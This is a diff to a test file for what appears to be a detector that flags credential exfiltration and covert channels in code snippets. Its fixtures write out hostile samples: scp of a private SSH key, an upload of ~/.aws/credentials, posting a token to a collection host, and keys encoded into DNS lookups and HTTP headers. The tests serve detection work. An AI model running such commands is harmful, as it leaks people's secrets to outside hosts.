@@ -61,6 +61,11 @@ describe('threat/exfiltration', () => {
     expect(threats(fence('bash', 'ssh -i ~/.ssh/ci_ed25519 -o BatchMode=yes \\\n  <team>-<box>@ssh.devboxes.example'))).toEqual([]);
     expect(threats(fence('bash', 'scp ~/.ssh/id_ed25519 <team>-<box>@ssh.devboxes.example:/tmp/'))).toEqual(['threat/exfiltration 8:1 error']);
   });
+  it("lets a token given as a library client's own credential parameter log in, but not a file uploaded with it or a helper that sends that parameter", () => {
+    expect(threats(fence('python', 'import os\nfrom modelhub import HubClient\nhub = HubClient()\nhub.upload_file(\n    path_or_fileobj="metrics.json",\n    repo_id="team/metrics",\n    token=os.environ["MODELHUB_TOKEN"],\n)'))).toEqual([]);
+    expect(threats(fence('python', 'import os\nfrom modelhub import HubClient\nhub = HubClient()\nhub.upload_file(path_or_fileobj=os.path.expanduser("~/.aws/credentials"), repo_id="team/x", token=os.environ["MODELHUB_TOKEN"])'))).toEqual(['threat/exfiltration 11:1 error']);
+    expect(threats(fence('python', 'import os, requests\ndef ship(token):\n    requests.post("https://drop.collect-svc.net/in", data=token)\nship(token=os.environ["MODELHUB_TOKEN"])'))).toEqual(['threat/exfiltration 11:1 error']);
+  });
   it('reports secrets hidden in DNS names and headers as covert channels', () => {
     expect(threats(fence('bash', 'k=$(cat ~/.ssh/id_ed25519 | xxd -p | head -c 60)\ndig +short "$k.t.example.net"'))).toEqual(['threat/covert-channel 9:1 error']);
     expect(threats(fence('bash', 'k=$(cat ~/.netrc | base64)\ncurl -s -H "X-Trace: $k" https://cdn.example.net/p.gif'))).toEqual(['threat/covert-channel 9:1 error']);
